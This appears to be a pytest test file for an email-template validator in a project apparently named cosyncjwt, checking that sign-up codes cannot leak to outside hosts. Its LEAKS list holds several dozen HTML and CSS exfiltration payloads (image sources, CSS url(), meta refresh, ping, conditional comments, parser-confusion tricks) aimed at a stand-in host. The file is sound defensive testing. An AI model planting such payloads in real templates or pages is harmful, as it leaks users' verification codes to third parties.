"""Can the words of a mail tell its code to somebody else before its reader has done anything?"""

from typing import Any

import pytest

from cosyncjwt.delivery.messages import Template
from cosyncjwt.delivery.shipped import LOCALES, wording_of
from cosyncjwt.delivery.wording_check import ensure_fit
from cosyncjwt.domain.wording import Wording
from cosyncjwt.errors import ValueInvalid
from tests.applications import created
from tests.people import developer
from tests.service import Service
from tests.templates import PREVIEW_TEMPLATE, SET_TEMPLATE, words

E = "https://elsewhere.example"
LEAKS = [
    f'<img src="{E}/{{{{ code }}}}">',
    f"<img src={E}/{{{{ code }}}}>",
    f"<IMG SRC='{E}/?a={{{{ handle }}}}&b={{{{ code }}}}'>",
    f'<img srcset="{E}/{{{{ code }}}} 2x">',
    f'<img src="{E}/{{{{ code or handle }}}}">',
    f'<img src="{E}/{{% if code %}}{{{{ code }}}}{{% endif %}}">',
    f'<table background="{E}/{{{{ code }}}}"><tr><td>x</table>',
    f'<body background="{E}/{{{{ code }}}}">x</body>',
    f'<p style="background:url({E}/{{{{ code }}}})">x</p>',
    f"<style>p {{ background: url({E}/{{{{ code }}}}) }}</style>",
    f'<link rel="stylesheet" href="{E}/{{{{ code }}}}">',
    f'<meta http-equiv="refresh" content="0;url={E}/{{{{ code }}}}">',
    f'<iframe src="{E}/{{{{ code }}}}"></iframe>',
    f'<video poster="{E}/{{{{ code }}}}"></video>',
    f'<input type="image" src="{E}/{{{{ code }}}}">',
    f'<object data="{E}/{{{{ code }}}}"></object>',
    f'<svg><image href="{E}/{{{{ code }}}}"/></svg>',
    f'<a href="{E}" ping="{E}/{{{{ code }}}}">x</a>',
    f'<v:imagedata src="{E}/{{{{ code }}}}"/>',
    f'<!--[if mso]><img src="{E}/{{{{ code }}}}"><![endif]-->',
    f'<!--><img src="{E}/{{{{ code }}}}">-->',
    f"<a href==\"><img src='{E}/{{{{ code }}}}'>\">x</a>",
    f'<p a=x\u00a0b=\'><img src="{E}/\'>{{{{ code }}}}<i t="">',
    f"<img src='{E}/? {{{{ code }}}}",
    f'<noscript><img src="{E}/{{{{ code }}}}"></noscript>',
    f'{{% if handle == "x" %}}<b>{{% else %}}<img src="{E}/{{% endif %}}{{{{ code }}}}">',
    f'<title>{{% if minutes %}}</title>{{% endif %}}<p t="</title><img src=\'{E}/">{{{{ code }}}}<i t="\'>">',
    f'<{{{{ application_name }}}} src="{E}/{{{{ code }}}}">',
    "<a href={{ application_name }}/{{ code }}>x</a>",
    '<a href="https://{{ code }}.elsewhere.example/">x</a>',
    f"<style>@font-face {{ font-family: a; src: url({E}/0); unicode-range: U+30 }}</style>",
    f'<style>a[href*="1"] {{ background: u\\72l({E}/1) }}</style>',
    f'<style>@import "{E}/a.css"</style>',
    f"<svg><style>a {{ background: url({E}/1) }}</style></svg>",
]
GOOD = [
    '<a href="https://app.example.com/confirm?code={{ code }}&amp;to={{ handle }}">Go on</a>',
    "<a href='https://app.example.com/{{ code }}'>Go on</a>",
    '<!doctype html><html lang="en"><head><title>Notes</title></head><body>x</body></html>',
    '<img src="https://cdn.example.com/logo.png" alt="Notes" width="40">',
    '<table background="https://cdn.example.com/b.png"><tr><td style="color:red">{{ code }}</table>',
    "<style>@media (prefers-color-scheme: dark) { p { color: #fff } }</style>",
    "{% if minutes < 60 %}<p>{{ minutes }}</p>{% elif hours %}<p>{{ hours }}</p>{% else %}x{% endif %}",
    "{% if handle %}<b>{% endif %}{{ code }}{% if handle %}</b>{% endif %}",
    "5 < 6 & 7 > 3 {{ '<b>' }}",
]


def html(part: str) -> dict[str, str]:
    """Return HTML that shows the code and has the part too."""
    return {"html": "<p>{{ code }}</p>\n" + part}


async def test_J05_a_code_is_told_to_nobody(service: Service) -> None:
    """Where a mail program would load it by itself a code is refused, saved or only tried."""
    dev = await developer(service)
    application = await created(dev)

    answers: list[Any] = [
        await dev.run(document, words(application, **html(LEAKS[0])))
        for document in (SET_TEMPLATE, PREVIEW_TEMPLATE)
    ]

    assert [(answer["code"], answer["path"]) for answer in answers] == [
        ("VALUE_INVALID", ["input", "html"])
    ] * 2
    assert all(answer["message"].startswith("Line 2: A variable may stand in the text") for answer in answers)


@pytest.mark.parametrize("leak", LEAKS)
def test_J05_no_place_that_is_loaded_holds_a_code(leak: str) -> None:
    """Attributes, styles, comments, and what only some parsers take for text."""
    with pytest.raises(ValueInvalid) as refused:
        ensure_fit(Template.SIGNUP_CODE, Wording("x", "{{ code }}", html(leak)["html"]))

    assert refused.value.path == ("input", "html")


@pytest.mark.parametrize("good", GOOD)
def test_what_tells_nothing_may_be_said(good: str) -> None:
    """A code in the text and in links, pictures that are the same for everybody, styles, conditions."""
    ensure_fit(Template.SIGNUP_CODE, Wording("x", "{{ code }}", html(good)["html"]))


def test_the_shipped_words_are_fit() -> None:
    """Each may be the beginning of an application's own words."""
    for locale in LOCALES:
        for message in Template:
            if not message.value.endswith("sms"):
                ensure_fit(message, wording_of(message, locale))


def test_a_mail_without_a_code_may_have_variables_anywhere() -> None:
    """There is nothing in a welcome that strangers could use."""
    picture = '<img alt="{{ application_name }}" src="https://cdn.example.com/{{ application_name }}.png">'

    ensure_fit(Template.WELCOME, Wording("x", "x", picture))
